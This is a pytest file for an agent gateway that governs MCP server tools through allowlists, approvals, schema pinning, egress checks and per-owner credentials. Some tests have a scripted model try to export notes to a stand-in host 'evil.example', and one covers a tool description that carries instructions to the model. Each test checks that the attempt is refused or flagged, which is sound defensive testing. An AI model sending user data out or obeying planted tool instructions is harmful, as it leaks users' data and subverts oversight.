"""A real MCP server process (``tests/mcp_server.py``), over stdio and over streamable HTTP on loopback, governed.

The policy names three of the server's four tools; the fourth (``export_everything``) is never
offered and is refused when called. The write runs once, after its approval; a schema the
server changes at run time is refused from then on.
"""

from __future__ import annotations

import logging
import re
import os
import subprocess
import sys
import textwrap
import time
import uuid
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager, contextmanager
from dataclasses import replace
from pathlib import Path

import httpx
import json
import pytest

from tollgate.graph._env import stop_group
from tollgate.graph.perimeter.credentials import CredentialStore, credentials_cipher
from tollgate.graph.runner import TurnRunner
from tollgate.graph.services import Services
from tollgate.graph.settings import Settings
from tollgate.graph.state import Context
from tollgate.graph.store.checkpointer import open_checkpointer
from tollgate.graph.store.db import Database
from tollgate.graph.turn import build_graph
from tests.fakes import ScriptedModel, call, say
from tests.harness import Turns, what_runs
from tests.children import free_port
from tollgate.nodes.offline.model import OfflinePicker
from tollgate.tools.builtin import builtin_tools
from tollgate.tools.mcp_tools import McpPolicyError, open_mcp_tools, schema_hash
from tollgate.tools.registry import Registry

_ROOT = Path(__file__).resolve().parent.parent

_TOOLS = """
[servers.memo.tools.list_notes]
tier = "allowlist"
effect = "read"
result_ids = { kind = "note", field = "id", label = "text" }
usage_examples = ["list my notes"]

[servers.memo.tools.add_note]
tier = "confirmation"
effect = "write"
preview = "Add the note '{text}'"
usage_examples = ["add a note"]

[servers.memo.id_kinds.note]
pattern = "n[0-9]+"

[servers.memo.tools.read_note]
tier = "allowlist"
effect = "read"
id_fields = { id = "note" }
usage_examples = ["read a note"]

[servers.memo.tools.reshape]
tier = "allowlist"
effect = "read"
usage_examples = ["reshape the notes"]
"""


@pytest.fixture(params=["stdio", "http"])
def policy(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[tuple[Path, Path]]:
    """The policy file for a fresh server (a subprocess over stdio, or one serving HTTP) and its call counter."""
    counter = tmp_path / "count"
    if request.param == "stdio":
        server = (f'command = ["{sys.executable}", "-m", "tests.mcp_server", "stdio"]\n'
                  f'env = {{ NOTES_COUNT_FILE = "{counter}", PYTHONPATH = "{_ROOT}" }}\n')
        path = tmp_path / "policy.toml"
        path.write_text("[servers.memo]\n" + server + textwrap.dedent(_TOOLS))
        yield path, counter
        return
    with _http_server(counter) as url:
        path = tmp_path / "policy.toml"
        path.write_text(f'[servers.memo]\nurl = "{url}"\n' + textwrap.dedent(_TOOLS))
        yield path, counter


def _stdio_policy(tmp_path: Path, tools: str, *, server: str = "") -> Path:
    """A policy file for the test server over stdio, with these tool tables (and ``server`` lines)."""
    path = tmp_path / "policy.toml"
    path.write_text(f'[servers.memo]\ncommand = ["{sys.executable}", "-m", "tests.mcp_server", "stdio"]\n'
                    f'env = {{ PYTHONPATH = "{_ROOT}" }}\n{server}' + textwrap.dedent(tools))
    return path


@contextmanager
def _http_server(counter: Path) -> Iterator[str]:
    """The test MCP server serving streamable HTTP on a free loopback port; its URL."""
    port = free_port()
    proc = subprocess.Popen([sys.executable, "-m", "tests.mcp_server", "http", str(port)], cwd=_ROOT,
                            env={"NOTES_COUNT_FILE": str(counter), "PATH": "/usr/bin:/bin", "PYTHONPATH": str(_ROOT)},
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        deadline = time.monotonic() + 30
        while True:
            try:
                httpx.get(f"http://127.0.0.1:{port}/mcp", timeout=1)
                break
            except httpx.TransportError:
                assert proc.poll() is None and time.monotonic() < deadline, "the MCP server did not start"
                time.sleep(0.1)
        yield f"http://127.0.0.1:{port}/mcp"
    finally:
        stop_group(proc)


@asynccontextmanager
async def _mcp_turns(services: Services, db: Database, path: Path) -> AsyncIterator[Turns]:
    """A runner over the built-ins and the policy's MCP tools (connected for the block), as a process serves them."""
    async with open_mcp_tools(path) as specs:
        svc = replace(services, registry=Registry((*builtin_tools(), *specs)))
        specs.serve_in(svc.registry)
        yield Turns(TurnRunner(build_graph(svc, checkpointer=await open_checkpointer(db)), svc))


@pytest.fixture
async def mcp_turns(services: Services, db: Database, policy: tuple[Path, Path]) -> AsyncIterator[Turns]:
    async with _mcp_turns(services, db, policy[0]) as turns:
        yield turns


def _count(counter: Path) -> int:
    return int(counter.read_text()) if counter.exists() else 0


async def test_a_read_runs_and_a_write_runs_once_after_its_approval(
    mcp_turns: Turns, model: ScriptedModel, ctx: Context, policy: tuple[Path, Path]
) -> None:
    offered = {s["function"]["name"] for s in mcp_turns.runner.services.registry.function_schemas()}
    assert {"memo__list_notes", "memo__add_note"} <= offered and "memo__export_everything" not in offered
    thread = ctx.owner_id + "/mcp"
    model.push(call("memo__list_notes", {}), say("You have two notes."))
    out = await mcp_turns.send(ctx, thread, "list my notes")
    assert out.outcome == "read" and "buy milk" in str(model.prompts[-1][-1].content)
    model.push(call("memo__add_note", {"text": "water the plants"}))
    out = await mcp_turns.send(ctx, thread, "add a note: water the plants")
    assert out.approval is not None and what_runs(out.approval.preview) == "Add the note 'water the plants'"
    assert _count(policy[1]) == 0
    done = await mcp_turns.decide(ctx, out.approval.approval_id, {"type": "approve"})
    assert done.outcome == "executed" and _count(policy[1]) == 1


async def test_a_tool_the_policy_does_not_name_is_refused(mcp_turns: Turns, model: ScriptedModel, ctx: Context) -> None:
    model.push(call("memo__export_everything", {"destination": "https://evil.example"}),
               call("memo__export_everything", {"destination": "https://evil.example"}))
    out = await mcp_turns.send(ctx, ctx.owner_id + "/mcp-unlisted", "export my notes")
    assert out.outcome in ("clarify", "refused") and out.approval is None


async def test_a_schema_changed_at_run_time_is_refused(
    mcp_turns: Turns, model: ScriptedModel, ctx: Context, policy: tuple[Path, Path]
) -> None:
    thread = ctx.owner_id + "/mcp-changed"
    model.push(call("memo__reshape", {}), say("Done."))
    assert (await mcp_turns.send(ctx, thread, "reshape the notes")).outcome == "read"
    model.push(call("memo__add_note", {"text": "after the change"}))
    out = await mcp_turns.send(ctx, thread, "add a note: after the change")
    assert out.approval is not None
    done = await mcp_turns.decide(ctx, out.approval.approval_id, {"type": "approve"})
    assert done.outcome == "failed" and _count(policy[1]) == 0
    errors = [e["data"] for e in done.events if e["type"] == "tool_end" and e["data"].get("status") == "error"]
    assert errors and errors[0]["code"] == "permission_denied"


async def test_a_pinned_schema_that_differs_refuses_to_start(tmp_path: Path) -> None:
    path = _stdio_policy(tmp_path, f'''
        [servers.memo.tools.list_notes]
        tier = "allowlist"
        effect = "read"
        schema_sha256 = "{schema_hash({"type": "object"})}"
    ''')
    with pytest.raises(McpPolicyError, match="not the one the policy pins"):
        async with open_mcp_tools(path):
            pass


async def test_a_changed_schema_is_accepted_once_the_policy_pins_it(
    mcp_turns: Turns, model: ScriptedModel, ctx: Context, policy: tuple[Path, Path],
    caplog: pytest.LogCaptureFixture,
) -> None:
    thread = ctx.owner_id + "/mcp-accept"
    model.push(call("memo__reshape", {}), say("Done."))
    await mcp_turns.send(ctx, thread, "reshape the notes")
    model.push(call("memo__add_note", {"text": "refused first"}))
    out = await mcp_turns.send(ctx, thread, "add a note: refused first")
    assert out.approval is not None
    with caplog.at_level(logging.WARNING, logger="tollgate.mcp"):
        assert (await mcp_turns.decide(ctx, out.approval.approval_id, {"type": "approve"})).outcome == "failed"
    pinned = re.search(r"add_note \(schema_sha256 now ([0-9a-f]{64})\)", caplog.text)
    assert pinned is not None, caplog.text
    text = policy[0].read_text().replace('preview = "Add the note \'{text}\'"',
                                         f'preview = "Add the note \'{{text}}\'"\nschema_sha256 = "{pinned.group(1)}"')
    policy[0].write_text(text)  # the operator accepts the new schema
    model.push(call("memo__add_note", {"text": "accepted"}))
    out = await mcp_turns.send(ctx, thread, "add a note: accepted")
    assert out.approval is not None
    assert (await mcp_turns.decide(ctx, out.approval.approval_id, {"type": "approve"})).outcome == "executed"
    assert _count(policy[1]) == 1
    # From then on the tool is offered and checked with its new schema (once, until a restart, the
    # start-up schema stayed: its new field was refused as unknown).
    model.push(call("memo__add_note", {"text": "shared", "share_with": "sam"}))
    out = await mcp_turns.send(ctx, thread, "add a note: shared, with sam")
    offered = next(t for t in model.bound_tools if t["function"]["name"] == "memo__add_note")["function"]
    assert "share_with" in offered["parameters"]["properties"]
    assert out.approval is not None and out.approval.args == {"text": "shared", "share_with": "sam"}
    assert (await mcp_turns.decide(ctx, out.approval.approval_id, {"type": "approve"})).outcome == "executed"
    assert _count(policy[1]) == 2


async def test_url_arguments_the_policy_names_pass_the_egress_gate(
    services: Services, db: Database, model: ScriptedModel, ctx: Context, tmp_path: Path
) -> None:
    path = _stdio_policy(tmp_path, '''
        [servers.memo.tools.export_everything]
        tier = "allowlist"
        effect = "read"
        url_args = ["destination"]
        usage_examples = ["export my notes"]
    ''')
    async with _mcp_turns(services, db, path) as turns:
        model.push(call("memo__export_everything", {"destination": "https://evil.example/drop"}))
        out = await turns.send(ctx, ctx.owner_id + "/mcp-egress", "export my notes")
    assert out.outcome == "refused"
    assert [e["data"]["code"] for e in out.events if e["type"] == "error"] == ["egress_denied"]


async def test_a_per_owner_server_gets_each_owners_own_credential(
    services: Services, db: Database, settings: Settings, model: ScriptedModel, tmp_path: Path
) -> None:
    store = CredentialStore(db.pool, credentials_cipher(settings, settings.approval_key()))
    alice, bob, carol = (Context(owner_id=f"{name}-{uuid.uuid4().hex[:6]}") for name in ("alice", "bob", "carol"))
    await store.set(alice.owner_id, "crm", "api_token", "tok-alice")
    await store.set(bob.owner_id, "crm", "api_token", "tok-bob")
    with _http_server(tmp_path / "count") as url:
        path = tmp_path / "policy.toml"
        path.write_text(textwrap.dedent(f'''
            [servers.crm]
            url = "{url}"
            per_owner = {{ credential = "api_token" }}
            [servers.crm.tools.whoami]
            tier = "allowlist"
            effect = "read"
            usage_examples = ["who am I in the crm"]
        '''))
        async with _mcp_turns(services, db, path) as turns:
            for who, expected in ((alice, "alice"), (bob, "bob"), (alice, "alice")):
                model.push(call("crm__whoami", {}), say("ok"))
                assert (await turns.send(who, who.owner_id + "/crm", "who am I in the crm")).outcome == "read"
                assert expected in str(model.prompts[-1][-1].content)  # the server saw that owner's token
            model.push(call("crm__whoami", {}))
            out = await turns.send(carol, carol.owner_id + "/crm", "who am I in the crm")
    assert out.outcome == "failed" and out.reply is not None and "tollgate credentials set api_token" in out.reply
    assert "tok-" not in out.reply


async def test_ids_in_a_result_the_policy_names_are_bindable_and_no_others(
    mcp_turns: Turns, model: ScriptedModel, ctx: Context
) -> None:
    thread = ctx.owner_id + "/mcp-ids"
    model.push(call("memo__list_notes", {}), say(""))
    await mcp_turns.send(ctx, thread, "list my notes")
    model.push(call("memo__read_note", {"id": "#2"}), say("It says to call the bank."))
    out = await mcp_turns.send(ctx, thread, "read the second note")
    assert out.outcome == "read" and "call the bank" in str(model.prompts[-1][-1].content)  # "#2" bound to n2
    model.push(call("memo__read_note", {"id": "n9"}))
    out = await mcp_turns.send(ctx, thread, "read note n9")
    assert out.outcome == "clarify"
    assert [e["data"]["reason"] for e in out.events if e["type"] == "error"] == ["not_returned"]


@pytest.mark.parametrize("trust", ["default", "owner"])
async def test_an_mcp_result_is_someone_elses_content_on_the_card_unless_the_policy_vouches_for_it(
    services: Services, db: Database, model: ScriptedModel, ctx: Context, tmp_path: Path, trust: str
) -> None:
    line = 'trust = "owner"\n' if trust == "owner" else ""
    path = _stdio_policy(tmp_path, _TOOLS.replace('[servers.memo.tools.list_notes]\n',
                                                   '[servers.memo.tools.list_notes]\n' + line))
    async with _mcp_turns(services, db, path) as turns:
        model.push(call("memo__list_notes", {}), call("tasks__create", {"title": "buy milk"}))
        out = await turns.send(ctx, ctx.owner_id + "/mcp-trust", "add the first note as a task")
    assert out.approval is not None
    label = out.approval.actions[0].provenance["title"]
    who = "your own data" if trust == "owner" else "someone else's content"
    assert label.startswith(f"from {who}: MCP server memo, tool list_notes (memo.list_notes): “"), label


async def test_a_tool_without_an_effect_refuses_to_start(tmp_path: Path) -> None:
    """Once served as a read (retried, unrecorded when allowlisted): the effect is never assumed."""
    path = _stdio_policy(tmp_path, '''
        [servers.memo.tools.add_note]
        tier = "allowlist"
    ''')
    with pytest.raises(McpPolicyError, match="effect is never assumed"):
        async with open_mcp_tools(path):
            pass


@pytest.mark.parametrize("effect", ["read", "write"])
async def test_a_call_that_hangs_is_abandoned_at_its_time_limit(
    services: Services, db: Database, model: ScriptedModel, ctx: Context, tmp_path: Path, effect: str
) -> None:
    """A hung server once held the turn (and its thread's lease) forever."""
    tier = "allowlist" if effect == "read" else "confirmation"
    path = _stdio_policy(tmp_path, f'''
        [servers.memo.tools.slow_note]
        tier = "{tier}"
        effect = "{effect}"
        timeout_seconds = 1
        preview = "Slowly note"
        usage_examples = ["take a slow note"]
    ''', server="timeout_seconds = 60\n")  # the tool's own limit wins over its server's
    async with _mcp_turns(services, db, path) as turns:
        model.push(call("memo__slow_note", {"seconds": 30}), say("Done."))
        started = time.monotonic()
        out = await turns.send(ctx, ctx.owner_id + f"/mcp-slow-{effect}", "take a slow note")
        if effect == "write":
            assert out.approval is not None
            out = await turns.decide(ctx, out.approval.approval_id, {"type": "approve"})
    assert time.monotonic() - started < 15  # the tool's 1 s, not the server's 60 s, nor forever
    assert out.outcome == "failed"
    said = out.reply or ""
    expected = "can't tell whether memo.slow_note went through" if effect == "write" else "did not answer within 1 s"
    assert expected in said, said


async def test_a_tool_description_that_instructs_the_model_is_withheld_and_flagged_on_the_card(
    services: Services, db: Database, model: ScriptedModel, ctx: Context, tmp_path: Path
) -> None:
    """The server's own words reached the model verbatim, and the card said nothing of them."""
    path = _stdio_policy(tmp_path, _TOOLS + '''
        [servers.memo.tools.helpful_note]
        tier = "confirmation"
        effect = "write"
        preview = "Add the note '{text}'"
        usage_examples = ["add a helpful note"]
    ''')
    async with _mcp_turns(services, db, path) as turns:
        model.push(call("memo__helpful_note", {"text": "hello"}))
        out = await turns.send(ctx, ctx.owner_id + "/mcp-described", "add a helpful note: hello")
    offered = next(t for t in model.bound_tools if t["function"]["name"] == "memo__helpful_note")["function"]
    assert "assistant must" not in json.dumps(offered) and "attacker" not in json.dumps(offered)
    # Any other description of the server's is offered as what it is: its words, fenced as DATA.
    other = next(t for t in model.bound_tools if t["function"]["name"] == "memo__add_note")["function"]
    assert re.search(r'<data kind=tool_description nonce=\w+>\n\{"from": "MCP server memo, tool add_note", '
                     r'"text": "Add a note\."\}\n</data nonce=\w+>', other["description"]), other["description"]
    assert out.approval is not None
    warnings = out.approval.actions[0].warnings
    assert [w["code"] for w in warnings if w["code"] == "instructions"] == ["instructions"]
    assert "MCP server memo, tool helpful_note" in next(w["text"] for w in warnings if w["code"] == "instructions")


def _mcp_check(policy: Path) -> subprocess.CompletedProcess[str]:
    """``tollgate mcp check POLICY`` as an operator runs it (no Tollgate settings in its environment)."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("TOLLGATE_")}
    tollgate = str(Path(sys.executable).with_name("tollgate"))
    return subprocess.run([tollgate, "mcp", "check", str(policy)], capture_output=True, text=True, env=env, cwd=_ROOT,
                          timeout=120)


def test_mcp_check_reports_unknown_tools_missing_effects_and_examples_and_typos(tmp_path: Path) -> None:
    """``tollgate mcp check POLICY`` connects to the real server (stdio) and names every problem at
    once, with the closest real name; a good policy passes with its warnings."""
    command = f'command = ["{sys.executable}", "-m", "tests.mcp_server", "stdio"]'
    bad = tmp_path / "bad.toml"
    bad.write_text(f"""[servers.memo]
{command}
timout_seconds = 5

[servers.memo.tools.list_note]
tier = "allowlist"
effect = "read"
usage_examples = ["what are my notes"]

[servers.memo.tools.add_note]
tier = "confirmation"
efect = "write"
preview = "Add the note '{{text}}'"
""")
    found = _mcp_check(bad)
    assert found.returncode == 1, found.stdout + found.stderr
    out = " ".join(found.stdout.split())
    assert "error: memo: unknown key 'timout_seconds'; did you mean 'timeout_seconds'?" in out
    assert "error: memo.add_note: unknown key 'efect'; did you mean 'effect'?" in out
    assert "error: memo.add_note: no effect (read, write or destructive)" in out
    assert "warning: memo.add_note: no usage_examples" in out

    named = tmp_path / "named.toml"
    named.write_text(f"""[servers.memo]
{command}

[servers.memo.tools.list_note]
tier = "allowlist"
effect = "read"
usage_examples = ["what are my notes"]

[servers.memo.tools.add_note]
tier = "confirmation"
effect = "write"
preview = "Add the note '{{text}}'"
usage_examples = ["add a note"]
""")
    found = _mcp_check(named)
    assert found.returncode == 1, found.stdout + found.stderr
    out = " ".join(found.stdout.split())
    assert "error: memo.list_note: the server offers no such tool; did you mean 'list_notes'?" in out
    assert "warning: memo.export_everything: offered by the server but not named in the policy" in out

    named.write_text(named.read_text().replace("list_note]", "list_notes]"))
    found = _mcp_check(named)
    assert found.returncode == 0, found.stdout + found.stderr
    assert "ok:" in found.stdout and "error" not in found.stdout


def test_the_readmes_policy_example_uses_every_key_and_loads(tmp_path: Path) -> None:
    """The README documents the MCP policy format with one example: it names every key the format
    has (so the documentation cannot fall behind) and loads as a server would load it."""
    import tomllib

    from tests.readme_blocks import blocks_run_by
    from tollgate.tools.mcp_tools import SERVER_KEYS, TOOL_KEYS, load_policy

    [example] = blocks_run_by("tests/test_mcp_tools.py", "toml")
    raw = tomllib.loads(example)
    server_keys = {key for server in raw["servers"].values() for key in server}
    tool_keys = {key for server in raw["servers"].values() for tool in server["tools"].values() for key in tool}
    assert server_keys == SERVER_KEYS and tool_keys == TOOL_KEYS
    path = tmp_path / "policy.toml"
    path.write_text(example)
    wiki, notes = load_policy(path)
    assert wiki.url == "https://wiki.example/mcp" and wiki.per_owner is not None
    assert notes.command == ("python", "-m", "notes_server") and notes.tools["share_note"].url_args == ("destination",)


_MEMO_POLICY = """
[servers.memo.tools.list_notes]
tier = "allowlist"
effect = "read"
result_ids = { kind = "note", field = "id", label = "text" }
usage_examples = ["list my memos", "what's in my memos"]

[servers.memo.tools.add_note]
tier = "confirmation"
effect = "write"
preview = "Add the memo '{text}'"
usage_examples = ["add a memo: buy bread", "put call the bank in my memos"]

[servers.memo.id_kinds.note]
pattern = "n[0-9]+"
"""


async def test_a_real_mcp_servers_tools_are_routed_and_filled_by_the_offline_picker(
    services: Services, db: Database, ctx: Context, tmp_path: Path
) -> None:
    """No model configured: the offline picker routes requests to a real MCP server's tools by the
    policy's usage examples alone and fills the write's text from the request; the write waits
    for its approval and runs once, in the server process."""
    counter = tmp_path / "count"
    path = tmp_path / "policy.toml"
    path.write_text(f'[servers.memo]\ncommand = ["{sys.executable}", "-m", "tests.mcp_server", "stdio"]\n'
                    f'env = {{ NOTES_COUNT_FILE = "{counter}", PYTHONPATH = "{_ROOT}" }}\n' + textwrap.dedent(_MEMO_POLICY))
    async with _mcp_turns(replace(services, picker_model=OfflinePicker()), db, path) as turns:
        thread = ctx.owner_id + "/mcp-offline"
        listed = await turns.send(ctx, thread, "what's in my memos?")
        assert listed.outcome == "read" and "buy milk" in listed.reply, listed
        asked = await turns.send(ctx, thread, "add a memo: water the plants")
        assert asked.approval is not None, asked
        assert what_runs(asked.approval.preview) == "Add the memo 'water the plants'"
        assert _count(counter) == 0
        done = await turns.decide(ctx, asked.approval.approval_id, {"type": "approve"})
        assert done.outcome == "executed" and _count(counter) == 1
